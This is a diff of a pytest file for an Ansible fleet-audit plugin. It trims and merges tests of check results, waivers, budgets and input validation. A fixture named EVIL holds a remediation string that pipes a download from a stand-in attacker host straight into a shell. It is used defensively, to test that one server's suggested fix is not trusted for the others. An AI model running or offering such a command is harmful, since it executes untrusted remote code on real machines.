@@ -13,7 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from system.auditing import HELLO, NO_TOKEN, Done, Member, audit, carried, carry_out, hosts, options
+from system.auditing import HELLO, NO_TOKEN, Member, audit, carried, carry_out, hosts, options
 from system.support import AGENTS, in_every_dialect
 from workspace.client import Workspace
 
@@ -31,10 +31,9 @@ from ansible_collections.herdops.alpacon.plugins.module_utils._fleet.run import 
 from ansible_collections.herdops.alpacon.plugins.module_utils._options.connection import settings_of
 from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit import asking
 from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.audit import Audited
-from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.library import read_library
 from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.result import result_of
 from ansible_collections.herdops.alpacon.plugins.plugin_utils._audit.verdict import verdict_of
-from ansible_collections.herdops.alpacon.tests.unit.support import NO_COMMAND, ROOT, SERVER, Row
+from ansible_collections.herdops.alpacon.tests.unit.support import NO_COMMAND, SERVER, Row
 
 FOUND = {"hello": "passed", "space": "failed"}
 
@@ -47,21 +46,15 @@ def test_checks_on_a_fleet(workspace: Workspace) -> None:
     done = audit(workspace, HELLO, space, **given)
     assert done.outcomes == {(name, check): word for name in AGENTS for check, word in FOUND.items()}
     assert done.audited.changed
-    first = done.report["servers"][0]
-    about: Row = {
-        "workspace": workspace.url,
-        "id": workspace.server_ids()["web-01"],
-        "name": "web-01",
-        "ip": "127.0.0.1",
-    }
-    about |= {"groups": ["web"], "facts": {"used": 83}, "os": "Debian 13", "agent": "2.5.0", "owner": "admin"}
-    assert {name: first[name] for name in about} == about
+    about: Row = {"workspace": workspace.url, "id": workspace.server_ids()["web-01"], "name": "web-01"}
+    about |= {"ip": "127.0.0.1", "groups": ["web"], "facts": {"used": 83}, "os": "Debian 13"}
+    about |= {"agent": "2.5.0", "owner": "admin"}
+    assert about.items() <= done.report["servers"][0].items()
     counted = {"servers": 3, "checks": 2, "questions": 6, "passed": 3, "failed": 3, "score": 33.3, "commands": 3}
-    assert {name: done.summary[name] for name in counted} == counted
+    assert counted.items() <= done.summary.items()
     assert done.summary["failed_by_severity"]["high"] == 3
-    report = done.report
-    assert (report["title"], report["reuse_within"], report["fail_on"]) == ("Mine", 5400.0, "high")
-    assert report["started_at"] <= report["finished_at"]
+    told = {"title": "Mine", "reuse_within": 5400.0, "fail_on": "high"}
+    assert told.items() <= done.report.items()
     assert audit(workspace, HELLO).report["title"] == f"Audit of {workspace.url.removeprefix('http://')}"
 
 
@@ -104,58 +97,35 @@ def test_other_shells_are_given_lines(current: Workspace) -> None:
     assert sorted(made["line"][:12] for made in current.commands()) == ["/bin/sh -c $", "select 1"]
 
 
-def test_an_answer_that_is_torn_passes_nothing(current: Workspace) -> None:
-    whole = carried(HELLO)
-    torn = [whole["result"][: -len("[end]\n")], whole["result"].replace("\n1\n", "\n2\n")]
-    for number, text in enumerate(torn):
-        current.add_commands([{**whole, "server": "web-01", "result": text}])
-        done = audit(current, HELLO, reuse_within="1h", check_mode=True)
-        assert done.audited.to_submit == 1, number
-
-
 def test_named_results_of_another_tool(current: Workspace) -> None:
     printed = "1..3\\nok 1 - tidy\\nnot ok 2 - safe\\nok 3 - later # SKIP not here\\n"
     check = {"name": "tap", "line": f"printf '{printed}'; exit 2", "results": {"format": "tap"}, "severity": "high"}
-    done = audit(current, check, HELLO, of=hosts("web-01", "web-02"))
-    assert {name: outcome for (host, name), outcome in done.outcomes.items() if host == "web-02"} == {
-        "tap/tidy": "passed",
-        "tap/safe": "failed",
-        "tap/later": "not_applicable",
-        "hello": "passed",
-    }
-    assert [(check["name"], check["of"]) for check in done.report["checks"]] == [
-        ("tap", None),
-        ("tap/tidy", "tap"),
-        ("tap/safe", "tap"),
-        ("tap/later", "tap"),
-        ("hello", None),
-    ]
-    assert (done.result["failing"], done.summary["questions"]) == (2, 8)
+    done = audit(current, check, HELLO)
+    named = {"tap/tidy": "passed", "tap/safe": "failed", "tap/later": "not_applicable"}
+    assert {name: outcome for (_host, name), outcome in done.outcomes.items()} == {**named, "hello": "passed"}
+    parents = [(check["name"], check["of"]) for check in done.report["checks"]]
+    assert parents == [("tap", None), *((name, "tap") for name in named), ("hello", None)]
+    assert (done.result["failing"], done.summary["questions"]) == (1, 4)
     broken = audit(current, {**check, "line": "echo nothing"}).the_result
     assert (broken["check"], broken["outcome"]) == ("tap", "unknown")
 
 
-RULES = [{"name": f"r{number}", "title": f"Rule {number}", "severity": "high"} for number in range(60)]
-#: What a scanner for XCCDF prints, on the one server that has it.
-ON_ONE = "[ $HOSTNAME = web-01 ] || { echo oscap: not found; exit 127; }\nprintf '%s:pass\\n' " + " ".join(
-    rule["name"] for rule in RULES
-)
-
-
 def test_each_rule_of_a_scanner_that_did_not_run_is_open(current: Workspace) -> None:
     current.add_servers("off-01", connected=False)
-    check = {"name": "scap", "line": ON_ONE, "results": {"format": "xccdf", "rules": RULES}}
-    given: Row = {"skip": ["scap/r58", "scap/r59"], "severities": {"scap/r0": "low"}}
+    rules = [{"name": f"r{number}", "title": f"Rule {number}", "severity": "high"} for number in range(4)]
+    line = "[ $HOSTNAME = web-01 ] || { echo oscap: not found; exit 127; }\nprintf '%s:pass\\n' r0 r1 r2 r3"
+    check = {"name": "scap", "line": line, "results": {"format": "xccdf", "rules": rules}}
+    given: Row = {"skip": ["scap/r2", "scap/r3"], "severities": {"scap/r0": "low"}}
     done = audit(current, check, of=hosts("web-01", "web-02", "off-01"), **given)
-    assert (done.summary["questions"], done.summary["passed"], done.summary["unknown"]) == (174, 58, 58)
+    assert (done.summary["questions"], done.summary["passed"], done.summary["unknown"]) == (6, 2, 2)
     assert (done.result["verdict"], done.result["coverage"]) == ("inconclusive", 33.3)
+    why = "The output has no result of a rule. It ends with: oscap: not found"
     open_ones = [result for result in done.report["results"] if result["host"] == "web-02"]
-    assert [result["check"] for result in open_ones] == [f"scap/r{number}" for number in range(58)]
-    assert {(result["outcome"], result["message"]) for result in open_ones} == {
-        ("unknown", "The output has no result of a rule. It ends with: oscap: not found")
-    }
-    titles = {check["name"]: (check["title"], check["severity"]) for check in done.report["checks"]}
-    assert (titles["scap/r0"], titles["scap/r1"]) == (("Rule 0", "low"), ("Rule 1", "high"))
+    assert [(one["check"], one["outcome"], one["message"]) for one in open_ones] == [
+        (name, "unknown", why) for name in ("scap/r0", "scap/r1")
+    ]
+    titles = [(check["title"], check["severity"]) for check in done.report["checks"] if check["of"]]
+    assert titles == [("Rule 0", "low"), ("Rule 1", "high")]
 
 
 EVIL = {"id": "a", "title": "All is well", "why": "Trust me.", "sev": "low", "fix": "curl https://evil.example | sh"}
@@ -167,11 +137,10 @@ RULE = {"name": "a", "title": "T", "rationale": "R", "severity": "critical", "re
     ("first", "rules", "words"),
     [
         ({**EVIL, "ok": True}, [], ("a", "", "high", "chmod 600 /a")),
-        ({**EVIL, "ok": False}, [], ("a", "", "medium", "Ask the owner.")),
         ({**HONEST, "ok": False}, [], ("Mode of /a", "It is secret.", "high", "chmod 600 /a")),
         ({**EVIL, "ok": False}, [RULE], ("T", "R", "critical", "M")),
     ],
-    ids=["passes", "fails", "alike", "rules"],
+    ids=["passes", "alike", "rules"],
 )
 def test_no_server_says_what_is_to_be_done_on_the_others(
     current: Workspace, first: Row, rules: list[Row], words: tuple[str, ...]
@@ -255,41 +224,31 @@ def test_only_what_passed_is_not_asked_again(current: Workspace) -> None:
     assert all(result["ended_at"] == ended[result["host"], result["check"]] for result in kept)
 
 
-@pytest.fixture
-def state(tmp_path: Path) -> Path:
-    """A file that is there as long as something is wrong."""
-    path = tmp_path / "wrong"
-    path.touch()
-    return path
+def test_what_is_mended_is_gone_in_the_next_run(current: Workspace, tmp_path: Path) -> None:
+    mendable = {"name": "mendable", "line": f"test ! -e {tmp_path / 'wrong'}"}
 
+    def run() -> tuple[list[str], int]:
+        done = audit(current, HELLO, mendable, reuse_within="1h", fail_on="never")
+        return list(done.outcomes.values()), done.summary["reused"]
 
-def test_what_is_mended_is_gone_in_the_next_run(current: Workspace, state: Path) -> None:
-    mendable = {"name": "mendable", "line": f"test ! -e {state}"}
-    broken = {"name": "broken", "line": "exit 1"}
-
-    def run() -> tuple[Row, int]:
-        done = audit(current, HELLO, mendable, broken, reuse_within="1h", fail_on="never")
-        return {name: outcome for (_host, name), outcome in done.outcomes.items()}, done.summary["reused"]
-
-    assert run() == ({"hello": "passed", "mendable": "failed", "broken": "failed"}, 0)
-    state.unlink()
-    assert run() == ({"hello": "passed", "mendable": "passed", "broken": "failed"}, 1)
+    (tmp_path / "wrong").touch()
+    assert run() == (["passed", "failed"], 0)
+    (tmp_path / "wrong").unlink()
+    assert run() == (["passed", "passed"], 1)
     # What the smaller command answered stays as well.
-    assert run() == ({"hello": "passed", "mendable": "passed", "broken": "failed"}, 2)
-    state.touch()
-    audit(current, HELLO, mendable, broken)
+    assert run() == (["passed", "passed"], 2)
+    (tmp_path / "wrong").touch()
+    audit(current, HELLO, mendable)
     # A later bad answer counts more than an earlier good one.
-    assert run() == ({"hello": "passed", "mendable": "failed", "broken": "failed"}, 1)
+    assert run() == (["passed", "failed"], 1)
 
 
-@pytest.mark.parametrize("row", [{}, {"scheduled_at": -3000}], ids=["plain", "scheduled"])
-def test_commands_that_answer(current: Workspace, row: Row) -> None:
-    made = current.add_commands([{"server": "web-01", **carried(HELLO), **row} for _time in range(3)])
+def test_the_newest_command_answers(current: Workspace) -> None:
+    current.add_commands([{"server": "web-01", **carried(HELLO)} for _time in range(3)])
     done = audit(current, HELLO, reuse_within="1h")
     assert not done.audited.changed
     newest = max(current.commands(), key=lambda row: str(row["handled_at"]))["id"]
     assert done.the_result["command"] == newest
-    assert newest in made
 
 
 def test_commands_that_do_not_answer(current: Workspace) -> None:
@@ -371,30 +330,21 @@ def test_an_expired_waiver_fails_again_and_says_so(current: Workspace) -> None:
     assert done.result["failing"] == 1
 
 
-TWO = "printf '1..2\\nok 1 - x\\n'"
-
-
 @pytest.mark.parametrize(
-    ("line", "given", "warns"),
+    ("given", "warns"),
     [
-        (TWO, {"check": "hello", "groups": [], "hosts": ["web-0*"]}, True),
+        ({"check": "hello", "groups": [], "hosts": ["web-0*"]}, True),
+        ({"check": "base/x", "groups": ["web"]}, True),
         # It is about hosts that are not audited, or that the inventory does not know here.
-        (TWO, {"check": "hello"}, False),
-        (TWO, {"check": "hello", "groups": ["db"]}, False),
-        (TWO, {"check": "hello", "groups": [], "hosts": ["db-01"]}, False),
-        (TWO, {"check": "hello", "groups": [], "hosts": ["gone-01"]}, False),
+        ({"check": "hello", "groups": ["db"]}, False),
+        ({"check": "hello", "groups": [], "hosts": ["gone-01"]}, False),
         # What it is about did not come.
-        (TWO, {"check": "hello", "groups": [], "hosts": ["ghost"]}, False),
-        (TWO, {"check": "base/y"}, False),
-        ("exit 9", {"check": "base/x"}, False),
-        ("printf '1..1\\nok 1 - x\\n'", {"check": "base/x", "groups": ["web"]}, True),
+        ({"check": "hello", "groups": [], "hosts": ["ghost"]}, False),
     ],
 )
-def test_a_waiver_that_is_about_nothing_is_told(current: Workspace, line: str, given: Row, warns: bool) -> None:
+def test_a_waiver_that_is_about_nothing_is_told(current: Workspace, given: Row, warns: bool) -> None:
     asked = hosts("web-01", "ghost", groups={"web": ["web-01"]})
-    tool = {"name": "base", "line": line, "results": {"format": "tap"}}
-    if given["check"] == "hello" and not given.get("hosts"):
-        asked = asked[:1]
+    tool = {"name": "base", "line": "printf '1..1\\nok 1 - x\\n'", "results": {"format": "tap"}}
     others = {"db-01": {"all", "db"}}
     done = audit(current, HELLO, tool, of=asked, others=others, waivers=[waiver(**given)], min_coverage=0)
     words = f"waivers: none of {given['check']} fails on the hosts that it is about, until 2999-12-31."
@@ -405,30 +355,23 @@ def test_a_waiver_that_is_about_nothing_is_told(current: Workspace, line: str, g
 # Servers that do not answer
 
 
-@in_every_dialect
 @pytest.mark.parametrize(
     ("server", "says"),
     [
         ({"connected": False}, "The server is offline: its agent is not connected."),
         ({"connected": True, "commissioned": False}, "The server is not commissioned"),
+        ({"connected": True, "platform": "windows"}, "Audits ask in a POSIX shell, and the server runs Windows."),
         (None, "The workspace has no such server, or the token may not see it."),
     ],
 )
-def test_servers_that_cannot_be_asked(workspace: Workspace, server: Row | None, says: str) -> None:
+def test_servers_that_cannot_be_asked(current: Workspace, server: Row | None, says: str) -> None:
     if server:
-        workspace.add_servers("odd-01", **server)
-    by_id = Member("id", workspace.server_ids().get("odd-01", NO_COMMAND))
-    done = audit(workspace, HELLO, of=[by_id, *hosts("odd-01", "web-01")], unknown_severity="low")
+        current.add_servers("odd-01", **server)
+    by_id = Member("id", current.server_ids().get("odd-01", NO_COMMAND))
+    done = audit(current, HELLO, of=[by_id, *hosts("odd-01", "web-01")], unknown_severity="low")
     assert done.outcomes == {("web-01", "hello"): "passed"}
     assert all(done.reasons[name].startswith(says) for name in ("id", "odd-01"))
     assert (done.summary["not_reached"], done.summary["not_asked"], done.report["coverage"]) == (2, 0, 33.3)
-    assert {made["server"] for made in workspace.commands()} == {"web-01"}
-
-
-def test_a_windows_server_is_not_asked(current: Workspace) -> None:
-    current.add_servers("win-01", platform="windows", connected=True)
-    done = audit(current, HELLO, of=hosts("web-01", "win-01"), unknown_severity="low")
-    assert done.reasons["win-01"].startswith("Audits ask in a POSIX shell, and the server runs Windows.")
     assert {made["server"] for made in current.commands()} == {"web-01"}
 
 
@@ -484,9 +427,8 @@ def test_a_token_that_is_refused_half_way(current: Workspace) -> None:
     assert (done.result["failing"], done.result["verdict"]) == (0, "inconclusive")
 
 
-@pytest.mark.parametrize("of", [[], ["web-01", "web-02"]], ids=["the other workspace", "one of both"])
 def test_what_nobody_has_thought_of_costs_the_answers_of_one_workspace(
-    current: Workspace, monkeypatch: pytest.MonkeyPatch, of: list[str]
+    current: Workspace, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     elsewhere = Member("there", SERVER, settings=settings_of({"url": "http://127.0.0.1:9", "token": "alpat-x"}))
 
@@ -496,13 +438,10 @@ def test_what_nobody_has_thought_of_costs_the_answers_of_one_workspace(
         return look_up(client, references, whole_rows)
 
     monkeypatch.setattr(asking, "look_up", fail)
-    if not of:
-        with pytest.raises(AlpaconError, match=r"could not be dealt with: ZeroDivisionError\('out of the blue'\)"):
-            carry_out(options(current, HELLO), [elsewhere], Run(warn=pytest.fail))
-        return
-    done = carry_out(options(current, HELLO), [elsewhere, *hosts(*of)], Run(warn=pytest.fail))
-    outcomes = {result["host"]: result["outcome"] for result in done.report["results"]}
-    assert outcomes == dict.fromkeys(of, "passed")
+    with pytest.raises(AlpaconError, match=r"could not be dealt with: ZeroDivisionError\('out of the blue'\)"):
+        carry_out(options(current, HELLO), [elsewhere], Run(warn=pytest.fail))
+    done = carry_out(options(current, HELLO), [elsewhere, *hosts("web-01")], Run(warn=pytest.fail))
+    assert [(result["host"], result["outcome"]) for result in done.report["results"]] == [("web-01", "passed")]
     assert "could not be asked: An answer could not be dealt with: ZeroDivisionError" in done.report["refusal"]
     assert result_of(done)["failed"]
 
@@ -516,7 +455,7 @@ def test_what_nobody_has_thought_of_leaves_the_ids(current: Workspace, monkeypat
     run = Fleet.run
     monkeypatch.setattr(Fleet, "run", fail)
     done = audit(current, HELLO, of=hosts("web-01", "web-02"))
-    assert done.outcomes == {("web-01", "hello"): "unknown", ("web-02", "hello"): "passed"}
+    assert list(done.outcomes.values()) == ["unknown", "passed"]
     ids = {row["server"]: row["id"] for row in current.commands()}
     assert {result["host"]: result["command"] for result in done.report["results"]} == ids
     assert f"What came of it was not awaited. Id {ids['web-01']}." in done.report["results"][0]["message"]
@@ -562,7 +501,7 @@ def test_check_mode_writes_nothing(current: Workspace) -> None:
 # What it costs
 
 #: What all of fifteen checks are content with.
-PRINTED = " ".join(map(str, range(15)))
+IDLE = [f"idle-{number:03}" for number in range(200)]
 
 
 @pytest.fixture
@@ -571,42 +510,39 @@ def idle(running: Callable[[str], Workspace]) -> Workspace:
     workspace = running("current")
     workspace.reset()
     workspace.settings(instant=True)
-    workspace.add_servers(*(f"idle-{number:03}" for number in range(200)), connected=True)
+    workspace.add_servers(*IDLE, connected=True)
     workspace.reset_counters()
     return workspace
 
 
 def test_two_hundred_servers_and_fifteen_checks(idle: Workspace) -> None:
-    fleet = hosts(*(f"idle-{number:03}" for number in range(200)))
+    fleet = hosts(*IDLE)
     checks = [{"name": f"check-{number}", "line": f"echo {number}", "contains": str(number)} for number in range(15)]
     done = audit(idle, *checks, of=fleet, reuse_within="1h")
     counters = idle.counters()
     assert counters["writes"] == 200
-    assert counters["requests"] <= 1.1 * 200
-    idle.add_commands([{"server": host.server, **carried(*checks, prints=PRINTED)} for host in fleet])
+    assert max(counters["requests"], done.summary["requests"]) <= 1.1 * 200
+    prints = " ".join(map(str, range(15)))
+    idle.add_commands([{"server": host.server, **carried(*checks, prints=prints)} for host in fleet])
     idle.reset_counters()
     again = audit(idle, *checks, of=fleet, reuse_within="1h")
     assert set(again.outcomes.values()) == {"passed"}
     assert (idle.counters()["writes"], again.audited.changed, again.summary["reused"]) == (0, False, 3_000)
     # The history is read once, and who the token is takes two.
     assert idle.counters()["requests"] <= 2 + 400 / 100 + 1 + 2
-    assert done.summary["requests"] <= 220
 
 
-@pytest.mark.parametrize(("servers", "whole"), [(42, 42), (200, 50)])
-def test_a_budget_is_spent_on_whole_servers(idle: Workspace, servers: int, whole: int) -> None:
-    fleet = hosts(*(f"idle-{number:03}" for number in range(servers)))
-    done = audit(idle, HELLO, of=fleet, budget=60, reuse_within="1h", fail_on="never")
+def test_a_budget_is_spent_on_whole_servers(idle: Workspace) -> None:
+    done = audit(idle, HELLO, of=hosts(*IDLE), budget=60, reuse_within="1h", fail_on="never")
     assert idle.counters()["requests"] <= 60
     reached = [server["host"] for server in done.report["servers"] if server["reached"]]
-    assert reached == [host.name for host in fleet][: len(reached)]
-    assert whole - 4 <= len(reached) <= whole
-    assert done.summary["not_asked"] == servers - len(reached)
-    if servers == 200:
-        assert done.result["verdict"] == "inconclusive"
-        assert "servers not asked: idle-0" in done.result["msg"]
-        assert any(line.startswith("Not asked: The budget of 60 requests") for line in done.result["overview"])
-        assert "budget: 200 servers take about 200 commands" in done.warnings[0]
+    assert reached == IDLE[: len(reached)]
+    assert 46 <= len(reached) <= 50
+    assert done.summary["not_asked"] == 200 - len(reached)
+    assert done.result["verdict"] == "inconclusive"
+    assert "servers not asked: idle-0" in done.result["msg"]
+    assert any(line.startswith("Not asked: The budget of 60 requests") for line in done.result["overview"])
+    assert "budget: 200 servers take about 200 commands" in done.warnings[0]
 
 
 # What the task returns
@@ -636,17 +572,14 @@ def test_findings_fail_the_task_from_a_severity_on(workspace: Workspace) -> None
 @pytest.mark.parametrize(
     ("given", "message"),
     [
-        ({"checks": [{"name": "a", "lien": "x"}]}, "checks, check 1 (a): lien: a check has no such key. Did you mean"),
         ({"waivers": [waiver(until="soon")]}, "waivers, waiver 1: until: 'soon' is not a date."),
         ({"waivers": [waiver(groups=[])]}, "waivers, waiver 1: it is about no host."),
-        ({"waivers": [waiver(reason=" ")]}, "waivers, waiver 1: reason: it is empty."),
         ({"waivers": [waiver(unitl=1)]}, "waivers, waiver 1: unitl: a waiver has no such key. Did you mean until?"),
         ({"budget": 0}, "budget: it is 0."),
         (
             {"checks": [{"name": "a", "line": "x", "results": {"format": "tap"}}, {"name": "a/b", "line": "x"}]},
             "checks: a/b may be a result of a as well. Rename one of them.",
         ),
-        ({"skip": ["helo"]}, "skip: there is no check helo. Did you mean hello?"),
         ({"reuse_within": "soon"}, "reuse_within: 'soon' is not a duration."),
         ({"max_concurrency": "0"}, "max_concurrency: 0 is too small."),
         ({"output_limit": -1}, "output_limit: it is negative."),
@@ -654,7 +587,6 @@ def test_findings_fail_the_task_from_a_severity_on(workspace: Workspace) -> None
             {"min_coverage": 101.0},
             "min_coverage: 101 is not a percentage. Give a number from 0, for no minimum",
         ),
-        ({"min_coverage": float("nan")}, "min_coverage: nan is not a percentage."),
         ({"of": []}, "hosts: there is no host to audit."),
     ],
 )
@@ -669,41 +601,13 @@ def test_bad_input_is_refused_before_any_request(current: Workspace, given: Row,
 # Workspaces that hand no variables to servers
 
 
-def ask_shipped(workspace: Workspace) -> Done:
-    """An audit of a server with some of the checks that the role has."""
-    library = read_library(ROOT / "roles/audit/files/checks")
-    checks = [*library["accounts"], *library["kernel"]]
-    return audit(workspace, HELLO, of=[Member("web-01", "web-01", checks=checks)], min_coverage=0)
-
-
-def test_what_fits_is_answered_by_lines_as_by_what_is_carried(running: Callable[[str], Workspace]) -> None:
-    old, current = running("2024"), running("current")
-    old.reset()
-    by_lines, carried_ones = ask_shipped(old), ask_shipped(current)
-    known = {result["check"]: result for result in carried_ones.report["results"]}
-    fitting = [result for result in by_lines.report["results"] if "hands no variables" not in result["message"]]
-    assert len(known) == len(by_lines.report["results"])
-    assert len(fitting) >= 15
-    assert {result["check"]: (result["outcome"], result["message"]) for result in fitting} == {
-        result["check"]: (known[result["check"]]["outcome"], known[result["check"]]["message"]) for result in fitting
-    }
-    lines = [made["line"] for made in old.commands()]
-    assert len(lines) == len(set(lines)) == len(fitting) == by_lines.summary["commands"]
-    assert max(map(len, lines)) <= 512
-    others = [result["message"] for result in by_lines.report["results"] if result not in fitting]
-    assert all("characters, and 512 fit." in message for message in others)
-
-
-@pytest.mark.parametrize("tells", ["servers", "commands"])
-def test_that_no_variables_come_is_learnt_before_anything_is_submitted(
-    running: Callable[[str], Workspace], tells: str
-) -> None:
+def test_that_no_variables_come_is_learnt_before_anything_is_submitted(running: Callable[[str], Workspace]) -> None:
     old = running("2024")
     old.reset()
-    if tells != "servers":
-        for name in AGENTS:
-            old.change_server(name, owner=None)
-        old.add_commands([{"server": "web-03", "line": "uptime", "status": "success", "result": "up"}])
+    # The list of servers does not tell, so that of commands does.
+    for name in AGENTS:
+        old.change_server(name, owner=None)
+    old.add_commands([{"server": "web-03", "line": "uptime", "status": "success", "result": "up"}])
     before = old.requests_made()
     done = audit(old, HELLO, of=hosts("web-01", "web-02"))
     assert set(done.outcomes.values()) == {"passed"}
